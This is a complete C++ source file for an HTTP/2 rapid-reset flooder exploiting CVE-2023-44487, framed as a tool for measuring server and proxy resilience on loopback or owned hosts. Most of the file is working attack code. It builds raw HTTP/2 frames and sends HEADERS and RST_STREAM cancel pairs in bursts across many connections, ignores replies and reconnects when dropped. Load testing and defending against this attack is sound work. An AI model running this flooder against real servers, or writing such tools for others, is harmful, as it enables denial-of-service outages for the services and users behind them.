// h2flood: an HTTP/2 rapid-reset flooder (CVE-2023-44487) below any HTTP/2 library, for measuring
// what a server or a proxy in front of it holds under the attack. Each of --connections
// connections sends the client preface, then HEADERS + RST_STREAM(CANCEL) pairs in bursts of
// --burst_bytes as fast as the socket takes them, and never reads (--read=false): the server's
// replies pile up in its own buffers, as the raw-frame flooders of the field do. A connection the
// peer closes is reopened. Stops after --seconds or --max_streams in all, whichever is first.
//
//   h2flood --target=127.0.0.1:50051 --connections=16 --seconds=20 [--watch_pid=PID]
//
// Prints one JSON object: streams sent, connections opened, and with --watch_pid the peak and
// final resident memory (VmRSS) of that process, sampled every 100 ms during the flood and for
// --settle_seconds after it. Loopback or a host you own only: this is an attack tool.
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <iostream>
#include <string>
#include <thread>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

struct Options {
  std::string host = "127.0.0.1";
  std::string port = "50051";
  std::string path = "/grpc.health.v1.Health/Check";
  int connections = 4;
  double seconds = 10;
  int64_t max_streams = 10'000'000;
  int burst_bytes = 32768;
  bool read = false;
  int watch_pid = 0;
  double settle_seconds = 0;
};

bool Flag(const std::string& arg, const char* name, std::string* value) {
  const std::string prefix = std::string("--") + name + "=";
  if (arg.compare(0, prefix.size(), prefix) != 0) return false;
  *value = arg.substr(prefix.size());
  return true;
}

[[noreturn]] void Usage(const std::string& why) {
  std::cerr << "h2flood: " << why
            << "\nusage: h2flood --target=HOST:PORT [--connections=4] [--seconds=10] "
               "[--max_streams=1e7] [--path=/grpc.health.v1.Health/Check] [--burst_bytes=32768] "
               "[--read=false] [--watch_pid=PID] [--settle_seconds=0]\n";
  std::exit(2);
}

Options Parse(int argc, char** argv) {
  Options o;
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    std::string v;
    char* end = nullptr;
    auto number = [&](double lo, double hi) {
      const double d = std::strtod(v.c_str(), &end);
      if (end == v.c_str() || *end != '\0' || !(d >= lo && d <= hi)) Usage("bad value: " + arg);
      return d;
    };
    if (Flag(arg, "target", &v)) {
      const size_t colon = v.rfind(':');
      if (colon == std::string::npos) Usage("--target needs HOST:PORT");
      o.host = v.substr(0, colon);
      o.port = v.substr(colon + 1);
    } else if (Flag(arg, "path", &v)) {
      if (v.empty() || v.size() > 120 || v[0] != '/') Usage("--path must start with / (<= 120)");
      o.path = v;
    } else if (Flag(arg, "connections", &v)) {
      o.connections = static_cast<int>(number(1, 4096));
    } else if (Flag(arg, "seconds", &v)) {
      o.seconds = number(0.1, 3600);
    } else if (Flag(arg, "max_streams", &v)) {
      o.max_streams = static_cast<int64_t>(number(1, 1e12));
    } else if (Flag(arg, "burst_bytes", &v)) {
      o.burst_bytes = static_cast<int>(number(64, 1 << 24));
    } else if (Flag(arg, "read", &v)) {
      if (v != "true" && v != "false") Usage("--read is true or false");
      o.read = v == "true";
    } else if (Flag(arg, "watch_pid", &v)) {
      o.watch_pid = static_cast<int>(number(1, 1 << 30));
    } else if (Flag(arg, "settle_seconds", &v)) {
      o.settle_seconds = number(0, 600);
    } else {
      Usage("unknown argument " + arg);
    }
  }
  return o;
}

int Connect(const Options& o) {
  addrinfo hints{};
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* found = nullptr;
  if (getaddrinfo(o.host.c_str(), o.port.c_str(), &hints, &found) != 0) return -1;
  int fd = -1;
  for (addrinfo* a = found; a != nullptr && fd < 0; a = a->ai_next) {
    fd = socket(a->ai_family, a->ai_socktype | SOCK_CLOEXEC, a->ai_protocol);
    if (fd >= 0 && connect(fd, a->ai_addr, a->ai_addrlen) != 0) {
      close(fd);
      fd = -1;
    }
  }
  freeaddrinfo(found);
  if (fd < 0) return -1;
  // A send blocked on a full window returns after 200 ms, so the clock is checked.
  timeval timeout{0, 200000};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &timeout, sizeof(timeout));
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  return fd;
}

std::string Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
  std::string f;
  const uint32_t length = static_cast<uint32_t>(payload.size());
  for (int shift : {16, 8, 0}) f.push_back(static_cast<char>((length >> shift) & 0xff));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  for (int shift : {24, 16, 8, 0}) {
    f.push_back(static_cast<char>((stream >> shift) & (shift == 24 ? 0x7f : 0xff)));
  }
  return f + payload;
}

// HPACK literal header field without indexing, new name (RFC 7541 6.2.2); short strings only.
std::string Literal(const std::string& name, const std::string& value) {
  std::string out(1, '\0');
  out.push_back(static_cast<char>(name.size()));
  out += name;
  out.push_back(static_cast<char>(value.size()));
  out += value;
  return out;
}

// Sends what the socket takes of `bytes` from `*offset` on; false when the peer closed.
bool SendSome(int fd, const std::string& bytes, size_t* offset) {
  while (*offset < bytes.size()) {
    const ssize_t n = send(fd, bytes.data() + *offset, bytes.size() - *offset, MSG_NOSIGNAL);
    if (n > 0) {
      *offset += static_cast<size_t>(n);
      continue;
    }
    return n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR);
  }
  return true;
}

int64_t RssBytes(int pid) {
  std::ifstream in("/proc/" + std::to_string(pid) + "/status");
  std::string key;
  while (in >> key) {
    if (key == "VmRSS:") {
      int64_t kb = 0;
      in >> kb;
      return kb * 1024;
    }
    in.ignore(1 << 12, '\n');
  }
  return -1;
}

}  // namespace

int main(int argc, char** argv) {
  const Options o = Parse(argc, argv);
  const std::string headers = Literal(":method", "POST") + Literal(":scheme", "http") +
                              Literal(":path", o.path) + Literal(":authority", o.host) +
                              Literal("content-type", "application/grpc") +
                              Literal("te", "trailers");
  const std::string cancel("\x00\x00\x00\x08", 4);
  const std::string preface = std::string("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n") +
                              Frame(0x4, 0, 0, "") + Frame(0x4, 0x1, 0, "");
  const size_t pair_bytes = 2 * 9 + headers.size() + cancel.size();
  const int pairs_per_burst = std::max<int>(1, o.burst_bytes / static_cast<int>(pair_bytes));

  std::atomic<int64_t> streams{0}, opened{0}, refused{0};
  std::atomic<bool> stop{false};
  const auto until = Clock::now() + std::chrono::duration<double>(o.seconds);
  std::vector<std::thread> threads;
  for (int c = 0; c < o.connections; ++c) {
    threads.emplace_back([&] {
      while (!stop.load() && Clock::now() < until) {
        const int fd = Connect(o);
        if (fd < 0) {
          ++refused;
          std::this_thread::sleep_for(std::chrono::milliseconds(50));
          continue;
        }
        ++opened;
        size_t offset = 0;
        bool alive = SendSome(fd, preface, &offset) && offset == preface.size();
        uint32_t next_id = 1;
        std::string burst;
        offset = 0;
        while (alive && !stop.load() && Clock::now() < until && next_id < (1u << 31) - 2) {
          if (offset == burst.size()) {
            if (streams.load() >= o.max_streams) {
              stop = true;
              break;
            }
            burst.clear();
            for (int i = 0; i < pairs_per_burst; ++i, next_id += 2) {
              burst += Frame(0x1, 0x4, next_id, headers);  // HEADERS, END_HEADERS
              burst += Frame(0x3, 0, next_id, cancel);     // RST_STREAM CANCEL
            }
            offset = 0;
          }
          alive = SendSome(fd, burst, &offset);
          if (alive && offset == burst.size()) streams += pairs_per_burst;  // all on the wire
          if (o.read) {
            char sink[65536];
            while (recv(fd, sink, sizeof(sink), MSG_DONTWAIT) > 0) {
            }
          }
        }
        close(fd);  // unread input: the kernel resets the connection, as a flooder's does
      }
    });
  }
  int64_t peak = 0, last = 0;
  const auto settle_until = until + std::chrono::duration<double>(o.settle_seconds);
  while (o.watch_pid > 0 && Clock::now() < settle_until) {
    last = RssBytes(o.watch_pid);
    if (last < 0) break;  // the process is gone (OOM-killed?)
    peak = std::max(peak, last);
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
    if (Clock::now() >= until) stop = true;
  }
  stop = true;
  for (std::thread& t : threads) t.join();
  std::printf(
      "{\"connections\": %d, \"seconds\": %.1f, \"streams_sent\": %lld, "
      "\"connections_opened\": %lld, \"connects_refused\": %lld",
      o.connections, o.seconds, static_cast<long long>(streams.load()),
      static_cast<long long>(opened.load()), static_cast<long long>(refused.load()));
  if (o.watch_pid > 0) {
    std::printf(", \"watched_pid\": %d, \"peak_rss_bytes\": %lld, \"final_rss_bytes\": %lld",
                o.watch_pid, static_cast<long long>(peak), static_cast<long long>(last));
  }
  std::printf("}\n");
  return 0;
}
